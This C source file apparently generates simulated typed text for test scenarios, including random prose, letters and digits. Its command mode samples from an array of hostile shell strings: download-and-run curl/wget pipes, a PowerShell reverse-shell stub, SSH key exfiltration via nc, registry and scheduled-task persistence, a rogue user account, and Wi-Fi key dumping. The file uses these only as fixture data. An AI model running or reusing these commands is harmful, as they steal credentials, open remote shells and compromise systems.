/*
 * What is typed where a scenario gives a number of keys and an alphabet. In: an alphabet, a generator. Out: text. The
 * words and commands are ours; they are drawn, so that no two seeds type the same.
 */
#include "sim/play_state.h"

#include <stdio.h>
#include <string.h>

#define COUNT(a) (sizeof(a) / sizeof(*(a)))

static const char *const words[] = {
	"the",     "a",      "of",    "and",    "to",      "in",     "is",     "it",       "that",
	"we",      "you",    "for",   "was",    "on",      "are",    "with",   "as",       "they",
	"be",      "at",     "one",   "have",   "this",    "from",   "or",     "had",      "by",
	"hot",     "but",    "some",  "what",   "there",   "can",    "out",    "other",    "were",
	"all",     "your",   "when",  "up",     "use",     "word",   "how",    "said",     "each",
	"she",     "which",  "do",    "time",   "if",      "will",   "way",    "about",    "many",
	"then",    "them",   "would", "write",  "like",    "so",     "these",  "long",     "make",
	"thing",   "see",    "him",   "two",    "has",     "look",   "more",   "day",      "could",
	"go",      "come",   "did",   "sound",  "no",      "most",   "number", "who",      "over",
	"know",    "water",  "than",  "call",   "first",   "people", "may",    "down",     "side",
	"been",    "now",    "find",  "report", "meeting", "friday", "please", "thanks",   "table",
	"morning", "letter", "quick", "under",  "price",   "garden", "window", "question", "answer",
};

static const char *const commands[] = {
	"powershell -NoP -W Hidden -Exec Bypass ",
	"cmd /c start /min ",
	"curl -s http://10.0.0.7:8080/a.sh -o /tmp/a && sh /tmp/a ",
	"wget -qO- 192.168.4.1/x | bash ",
	"reg add HKCU\\Software\\Run /v Up /d C:\\Temp\\u.exe /f ",
	"net user Guest2 P@ss0rd /add ",
	"$c = New-Object Net.Sockets.TCPClient('10.1.2.3',4444); ",
	"schtasks /create /tn Upd /tr C:\\Users\\Public\\u.exe ",
	"python3 -c \"import os; os.system('id')\" ",
	"cat ~/.ssh/id_rsa | base64 | nc 10.0.0.9 9001 ",
	"Get-ChildItem -Path C:\\ -Recurse -Filter *.kdbx ",
	"osascript -e 'tell app \"Finder\" to open home' ",
	"chmod +x ./run.sh; nohup ./run.sh & disown ",
	"netsh wlan show profile name=Home key=clear ",
};

static void append(char *out, size_t *at, size_t count, const char *s)
{
	while (*s && *at < count)
		out[(*at)++] = *s++;
}

static void prose(struct random *r, char *out, size_t count)
{
	unsigned left = 0;

	for (size_t at = 0; at < count;) {
		size_t first = at;

		append(out, &at, count, words[random_below(r, COUNT(words))]);
		if (!left) {
			out[first] = (char)(out[first] - 'a' + 'A');
			left = 5 + random_below(r, 12);
		}
		append(out, &at, count, --left ? " " : ". ");
	}
}

static void command(struct random *r, char *out, size_t count)
{
	for (size_t at = 0; at < count;) {
		char number[16];

		append(out, &at, count, commands[random_below(r, COUNT(commands))]);
		if (random_chance(r, 0.3)) {
			snprintf(number, sizeof(number), "%u ", random_below(r, 65536));
			append(out, &at, count, number);
		}
	}
	/* What is run is sent off. */
	out[count - 1] = '\n';
}

static void letters(struct random *r, char *out, size_t count, const char *from, size_t enter_each)
{
	size_t choices = strlen(from);

	for (size_t i = 0; i < count; i++)
		out[i] = enter_each && i % enter_each == enter_each - 1
		                 ? '\n'
		                 : from[random_below(r, (uint32_t)choices)];
}

void play_text(enum scenario_alphabet alphabet, unsigned count, struct random *r, char *out)
{
	out[count] = '\0';
	switch (alphabet) {
	case SCENARIO_PROSE:
		prose(r, out, count);
		break;
	case SCENARIO_COMMAND:
		command(r, out, count);
		break;
	case SCENARIO_MIXED:
		letters(r, out, count,
		        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", 0);
		break;
	case SCENARIO_DIGITS_ENTER:
		letters(r, out, count, "0123456789", 14);
		break;
	default:
		letters(r, out, count, "cbdefghijklnrtuv", 45);
		break;
	}
}
